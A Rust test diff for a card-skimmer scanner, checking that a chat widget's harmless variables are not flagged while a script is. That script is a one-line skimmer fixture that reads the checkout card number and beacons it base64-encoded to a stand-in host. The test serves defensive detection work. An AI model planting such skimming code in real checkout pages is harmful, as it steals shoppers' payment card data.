@@ -16,3 +16,39 @@ fn what_is_read_decides_the_severity() {
         "{skim} skimmers, {legit} legitimate"
     );
 }
+
+/// A Shopify-style page whose card fields are `id="number"` and `id="name"`: a chat widget's
+/// `visitor.name` and `var number` are not those fields, while a script that selects them
+/// (`getElementById('number')`) still reads the card.
+#[test]
+fn generic_page_field_ids_name_fields_only_when_selected() {
+    let fields: Vec<String> = ["number", "name", "expiry", "verification_value"]
+        .map(String::from)
+        .to_vec();
+    let chat = "var visitor = { id: 'v1', name: null };\nvar first = document.getElementById('checkout_billing_address_first_name');\nfirst.addEventListener('change', function () { visitor.name = first.value; var number = visitor.name.length; ws.send(JSON.stringify({ name: visitor.name, n: number })); });\nvar ws = new WebSocket('wss://rt.chat-widget-vendor.example/v1');";
+    let skim = "document.getElementById('place').addEventListener('click', function () { var n = document.getElementById('number').value; new Image().src = 'https://cdn-pixel-metrics.example/p?d=' + btoa(n); });";
+    let engine = engine_support::engine();
+    let mut jobs = Vec::new();
+    for (name, code) in [("chat.js", chat), ("skim.js", skim)] {
+        let mut j = engine_support::job(name, code);
+        j.page_fields = fields.clone();
+        jobs.push(j);
+    }
+    let r = engine.analyse_batch(jobs);
+    let high = |i: usize| {
+        r[i].findings
+            .iter()
+            .filter(|f| f.severity >= skimscan::finding::Severity::High)
+            .map(|f| (f.rule.clone(), f.hosts.clone()))
+            .collect::<Vec<_>>()
+    };
+    assert!(high(0).is_empty(), "{:?}", high(0));
+    assert!(
+        high(1)
+            .iter()
+            .any(|(rule, hosts)| rule == "payment-data-exfiltration"
+                && hosts.iter().any(|h| h == "cdn-pixel-metrics.example")),
+        "{:?}",
+        high(1)
+    );
+}
